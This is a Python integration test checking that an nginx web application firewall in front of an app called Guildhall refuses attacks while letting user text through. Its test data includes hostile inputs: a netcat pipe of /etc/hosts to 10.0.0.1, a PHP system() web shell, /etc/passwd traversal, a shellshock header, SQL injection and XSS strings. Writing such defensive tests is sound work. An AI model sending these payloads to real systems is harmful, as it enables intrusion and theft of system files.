#!/usr/bin/env python3
"""The built program behind nginx as packaging/nginx has it, with the firewall: people's work passes, whatever they write; who a client is and which
host it names cannot be forged; limits, sending on to TLS, and a server that is down. What an attacker sends is refused by the firewall, and, as a
control, not refused where nginx stands there without it. The firewall leaves alone what the server's own description calls text, and no other field.
"""
import json
import re
import sys
import threading
import time

from guildhall import ROOT, Server, expect
from nginx import Nginx, refused_by_firewall

MIB = 1024 * 1024
JAVA = "java.lang.Runtime.exec in ProcessBuilder, java.x and InstantiateFactory"
MAILED = "x\r\nSet-Cookie: a=b; GET /x HTTP/1.1\r\nContent-Type: text/html"
WRITTEN = {  # what people write, by the tag, or the number, of the rules that would refuse it
    "attack-xss": "<b>bold</b> and <script>alert(1)</script>",
    "attack-sqli": "1' OR '1'='1' -- said O'Brien, and SELECT * FROM x",
    "attack-rce": "run ; cat /etc/hosts | nc 10.0.0.1 99 and $(id): _$$ND_FUNC$$_",
    "attack-injection-php": "<?php system($_GET[x]); ?>",
    "attack-lfi": "see ../../../../etc/passwd",
    "attack-rfi": "http://192.168.0.1/x.php?",
    "attack-protocol": MAILED,
    "attack-fixation": "document.cookie; .cookie; expires=1;domain=x",
    "attack-reputation-scanner": "they asked for /nessustest",
    "921110": MAILED, "931110": "include(x=http://example.com/", "942140": "greta@northwind.example", "OWASP_CRS": "' or 1=1 -- ",
    "944100": JAVA, "944110": JAVA, "944120": JAVA, "944130": JAVA,
}
# Strings of bodies that nobody writes freely: the firewall looks at them.
NO_PROSE = ("authenticator_data", "client_data", "code", "columns.[]", "change.language", "email", "filter.*", "filter.country", "filter.external_id", "filter.search",
            "filter.sku", "language", "offer", "passkey.authenticator_data", "passkey.client_data", "passkey.credential_id", "passkey.signature",
            "permissions.[]")
SECRET = ("password", "refresh_token", "token")


def start(server):
    server.start()
    for _ in range(600):
        if server.run("healthcheck", check=False).returncode == 0:
            return
        time.sleep(0.1)
    raise RuntimeError((server.folder / "log").read_text()[-3000:])


def work_passes(waf, account):
    ada = waf.client(account)
    for name in ("O'Brien & Sons; --", "SELECT * FROM customers", "Ünïcödé 🎉 GmbH", "شركة الاختبار", "<b>Bold</b> Ltd", "../../Paths Inc", "Null and Void, or 1=1"):
        status, made = ada.request("POST", "/customers", {"name": name, "website": "https://example.com/?a=1&b=<2>", "phone": "+49 (221) 12'34"})
        expect(f"{name!r} is created", status == 201, made)
        changed = ada.request("PATCH", f"/customers/{made['id']}", {"name": name + " (renamed)"}, {"If-Match": f'"{made["version"]}"'})
        read = ada.request("GET", f"/customers/{made['id']}")
        expect("  changed, and read as it was written", changed[0] == 200 and read[1]["name"] == name + " (renamed)", (changed, read))
    for text in sorted(set(WRITTEN.values())):
        status, said = ada.request("POST", f"/customers/{made['id']}/notes", {"body": text})
        expect(f"a note may say {text!r}", status == 201 and said["body"] == text, said)
    status, found = ada.request("GET", "/customers?search=O%27Brien")
    expect("O'Brien is found", status == 200 and any("O'Brien" in each["name"] for each in found["items"]), found)
    expect("a record is deleted", ada.request("DELETE", f"/customers/{made['id']}", headers={"If-Match": '"2"'})[0] == 204)
    return ada


def imports_pass(ada):
    row = "O'Brien {0} <b>,SELECT {0} FROM x; --\r\n"
    text = "Name,Notes\r\n" + "".join(row.format(i) for i in range(30000))
    head = '--mark\r\nContent-Disposition: form-data; name="kind"\r\n\r\ncustomers\r\n--mark\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
    body = (head + text + "\r\n--mark--\r\n").encode()
    status, made = ada.request("POST", "/imports", headers={"Content-Type": "multipart/form-data; boundary=mark"}, raw=body)
    expect(f"a file of {len(body) / MIB:.1f} MiB is taken", len(body) > MIB and status == 202, made)
    mapping = ada.request("PUT", f"/imports/{made['id']}/mapping", {"mapping": {"Name": "name", "Notes": None}})
    expect("and its columns are told", mapping[0] == 200, mapping)


def events_arrive(waf, ada):
    connection = waf.connect()
    connection.request("GET", "/api/v1/events", headers={"Authorization": f"Bearer {ada.token}", "Accept": "text/event-stream", "User-Agent": "proxy.py"})
    answer = connection.getresponse()
    heard = []
    def listen():
        for line in answer:
            heard.append((time.monotonic(), line.decode()))
    threading.Thread(target=listen, daemon=True).start()
    time.sleep(0.5)
    began, before = time.monotonic(), len(heard)
    made = ada.request("POST", "/customers", {"name": "Heard at once"})[1]
    while time.monotonic() - began < 4 and not any(made["id"] in line for _, line in heard[before:]):
        time.sleep(0.02)
    came = [at - began for at, line in heard[before:] if made["id"] in line]
    expect("an event arrives while the stream goes on" + (f", after {came[0]:.2f} s" if came else ""), answer.status == 200 and came, (answer.status, heard[-5:]))


def nothing_is_forged(waf, account):
    signing_in = {"Content-Type": "application/json", "X-Forwarded-For": "203.0.113.9", "X-Real-IP": "203.0.113.9", "Forwarded": "for=203.0.113.9",
                  "X-Forwarded-Proto": "http", "Origin": f"https://localhost:{waf.port}"}
    body = json.dumps({"email": account["email"], "password": account["password"], "kind": "browser"})
    answer = waf.ask("POST", "/api/v1/sessions", signing_in, body, source="127.0.0.2")
    cookie = answer.getheader("Set-Cookie") or ""
    expect("a browser is signed in, by a cookie for this host over TLS", answer.status == 201 and cookie.startswith("__Host-") and "Secure" in cookie, answer.text)
    expect("and told to come by TLS alone", answer.getheader("Strict-Transport-Security"))
    mine = json.loads(waf.ask("GET", "/api/v1/sessions", {"Cookie": cookie.split(";")[0]}, source="127.0.0.2").text)["items"]
    addresses = {each.get("address") for each in mine}
    expect("the server sees whose connection it is, whatever the client says", "127.0.0.2" in addresses and "203.0.113.9" not in addresses, mine)
    for host in ("evil.example", "localhost:1", f"localhost.evil.example:{waf.port}"):
        expect(f"Host {host} is refused", waf.ask("GET", "/", {"Host": host}).status == 421)
    sent_on = waf.ask("GET", "/customers?search=x", {"Host": "localhost"}, plain=True)
    expect("plain HTTP is sent on to TLS", (sent_on.status, sent_on.getheader("Location")) == (308, f"https://localhost:{waf.port}/customers?search=x"))
    forged = waf.ask("GET", "/", {"Host": "evil.example"}, plain=True)
    expect("and nobody is sent to another host", forged.status == 421 and not forged.getheader("Location"))


def limits_hold(waf, ada):
    headers = {"Authorization": f"Bearer {ada.token}", "Content-Type": "application/json"}
    def sized(bytes_):
        frame = '{"name":""}'
        return waf.ask("POST", "/api/v1/customers", headers, frame.replace('""', '"' + "a" * (bytes_ - len(frame)) + '"'))
    expect("a body of 1 MiB comes to the server", sized(MIB).status == 422)
    larger = sized(MIB + 1)
    expect("one of a byte more does not", larger.status == 413 and json.loads(larger.text)["title"] == "This is too large", larger.text)
    connection = waf.connect()
    connection.putrequest("POST", "/api/v1/imports")
    for name, value in {**headers, "Content-Type": "multipart/form-data; boundary=x", "Content-Length": str(256 * MIB + 1)}.items():
        connection.putheader(name, value)
    connection.endheaders()
    expect("nor a file of more than 256 MiB", connection.getresponse().status == 413)
    connection.close()
    expect("a body that is no JSON is refused", waf.ask("POST", "/api/v1/customers", headers, '{"name":').status == 400)
    expect("a field of a body in the address is refused", refused_by_firewall(waf.ask("GET", "/api/v1/customers?json.name=<script>", headers)))


def crowds_wait(plain):
    """The server counts connections by address, and sees but one: nginx does it."""
    waiting = []
    for _ in range(200):
        connection = plain.connect(source="127.0.0.3")
        connection.putrequest("POST", "/api/v1/sessions")
        connection.putheader("Content-Length", "10")
        connection.endheaders()
        waiting.append(connection)
    time.sleep(0.5)
    one_more = plain.ask("GET", "/readyz", source="127.0.0.3")
    expect("who holds 200 connections gets no other, in the server's form", one_more.status == 429 and json.loads(one_more.text)["status"] == 429, one_more.status)
    expect("and others do", plain.ask("GET", "/readyz", source="127.0.0.4").status == 200)
    for connection in waiting:
        connection.close()


def attacks_are_refused(waf, plain, ada):
    signed_in = {"Authorization": f"Bearer {ada.token}"}
    attacks = {"SQL in a search": ("GET", "/api/v1/customers?search=1%27%20or%20%271%27=%271", {}, None),
               "UNION SELECT": ("GET", "/api/v1/customers?search=-1%20UNION%20SELECT%20password%20FROM%20accounts", {}, None),
               "SQL as an address of mail": ("POST", "/api/v1/sessions", {}, json.dumps({"email": "' or 1=1 -- ", "password": "x", "kind": "token"})),
               "a path out of the folder": ("GET", "/assets/x/y/..%2f..%2f..%2fetc%2fpasswd", {}, None),
               "a file out of the folder": ("GET", "/?file=../../../../etc/passwd", {}, None),
               "a script in a search": ("GET", "/api/v1/customers?search=%3Cscript%3Ealert(1)%3C/script%3E", {}, None),
               "a command in a search": ("GET", "/api/v1/customers?search=;cat%20/etc/passwd|nc%2010.0.0.1%2099", {}, None),
               "the scanner sqlmap": ("GET", "/sign-in", {"User-Agent": "sqlmap/1.7#stable (https://sqlmap.org)"}, None),
               "the scanner Nikto": ("GET", "/sign-in", {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}, None),
               "shellshock": ("GET", "/sign-in", {"Referer": "() { :;}; /bin/cat /etc/passwd"}, None)}
    for name, (method, path, headers, body) in attacks.items():
        sent = {**signed_in, **headers, **({"Content-Type": "application/json"} if body else {})}
        if method == "POST":
            del sent["Authorization"]
        with_it, without = waf.ask(method, path, sent, body), plain.ask(method, path, sent, body)
        expect(f"{name}: refused by the firewall; without it {without.status} of the server's own",
               refused_by_firewall(with_it) and without.status != 403 and without.getheader("X-Request-Id"), (with_it.status, with_it.text, without.status))
    expect("and it says by which rule", re.search(r'\[id "942100"\]', waf.said()) and re.search(r'\[id "913100"\]', waf.said()))
    odd = "' or 1=1 -- <script>zqsecretzq"
    answer = waf.ask("POST", "/api/v1/sessions", {"Content-Type": "application/json"}, json.dumps({"email": "ada@nowhere.example", "password": odd, "kind": "token"}))
    logs = "".join(each.read_text() for each in waf.folder.glob("*.log"))
    expect("a password may be anything, and is in no log", answer.status == 401 and "zqsecretzq" not in logs and ada.token not in logs, answer.status)


def fields_of(schema, all_schemas, path=""):
    """The names of what a body holds, and whether it is text of any form."""
    schema = all_schemas[schema["$ref"].split("/")[-1]] if "$ref" in schema else schema
    for other in schema.get("anyOf", []):
        yield from fields_of(other, all_schemas, path)
    for name, inner in schema.get("properties", {}).items():
        yield from fields_of(inner, all_schemas, f"{path}.{name}" if path else name)
    for key, inner in ((".*", schema.get("additionalProperties")), (".[]", schema.get("items"))):
        if isinstance(inner, dict):
            yield from fields_of(inner, all_schemas, path + key)
    yield path, "string" in (schema.get("type") or ()) and not {"format", "enum", "pattern"} & schema.keys()


def exclusions_are_right(waf, rules):
    document = json.loads(waf.ask("GET", "/api/openapi.json").text)
    bodies = [content["schema"] for path in document["paths"].values() for route in path.values()
              for kind, content in route.get("requestBody", {}).get("content", {}).items() if "json" in kind]
    fields = {each for schema in bodies for each in fields_of(schema, document["components"]["schemas"]) if each[0]}
    texts = {name for name, is_text in fields if is_text}
    expected = texts - set(NO_PROSE) - set(SECRET)
    patterns = set(re.findall(r'^SecRuleUpdateTargetByTag "attack-[\w-]+" "!ARGS:/(.*)/"$', rules, re.M))
    secrets = re.findall(r"!ARGS:json\.(\w+)", re.search('"OWASP_CRS" (".*")', rules)[1])
    pattern = re.compile(patterns.pop())
    left_alone = {name for name, _ in fields if pattern.search("json." + name.replace(".[]", ".array_0").replace("*", "x"))}
    expect(f"of {len(fields)} fields, {len(left_alone)} are left alone: those that the server takes as text, no other",
           not patterns and left_alone == expected and set(secrets) == set(SECRET), (left_alone ^ expected, secrets))
    expect("and none is called no prose that is not there", set(NO_PROSE) <= texts, set(NO_PROSE) - texts)


def examples_of(rules):
    """Bodies that would be refused but for what these rules leave alone."""
    text = WRITTEN[rules]
    field = {"OWASP_CRS": "password", "942140": "email"}.get(rules, "body")
    return [{field: text}] + ([{"lines": [{"description": text}]}, {"mapping": {text: text}}] if rules.startswith("attack-") else [])


def exclusions_are_needed(socket, user, all_rules):
    """Without one, and with all others, what it lets pass is refused."""
    for line in re.findall("^SecRuleUpdate.*$", all_rules, re.M):
        without = Nginx(socket, user, True, lambda text: text.replace(line, ""))
        rules = line.split()[1].strip('"')
        answers = [(body, without.ask("POST", "/api/v1/estimates", {"Content-Type": "application/json"}, json.dumps(body))) for body in examples_of(rules)]
        without.close()
        for body, answer in answers:
            expect(f"but for the exclusion of {rules}, {str(body)[:70]} would be refused", refused_by_firewall(answer), (body, answer.text))


def down(waf, server):
    server.stop()
    answer = waf.ask("GET", "/api/v1/me")
    expect("a server that is down: 503, in the server's form, and when to try again", answer.status == 503 and answer.getheader("Retry-After")
           and json.loads(answer.text)["status"] == 503, (answer.status, answer.text))
    start(server)
    expect("and when it is back, it answers", waf.ask("GET", "/readyz").status == 200)


def main():
    server = Server(settings={"GUILDHALL_TRUSTED_PROXIES": "unix", "GUILDHALL_PASSWORD_COST": "10", "GUILDHALL_COUNTRIES": ""})
    socket = f"{server.data}/http.sock"
    waf, plain = Nginx(socket, server.user, True), Nginx(socket, server.user, False)
    server.environment.update({"GUILDHALL_LISTEN": f"unix:{socket}", "GUILDHALL_PUBLIC_URL": f"https://localhost:{waf.port}", "GUILDHALL_ALLOWED_HOSTS": f"localhost:{plain.port}"})
    try:
        server.run("demo")
        start(server)
        account = next(each for each in server.accounts() if each["role"] == "guild")
        ada = work_passes(waf, account)
        imports_pass(ada)
        events_arrive(waf, ada)
        nothing_is_forged(waf, account)
        limits_hold(waf, ada)
        crowds_wait(plain)
        attacks_are_refused(waf, plain, ada)
        rules = (ROOT / "packaging/nginx/guildhall-waf/rules.conf").read_text()
        exclusions_are_right(waf, rules)
        exclusions_are_needed(socket, server.user, rules)
        down(waf, server)
    finally:
        waf.close()
        plain.close()
        server.close()
    print("Guildhall stands behind nginx and its firewall.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
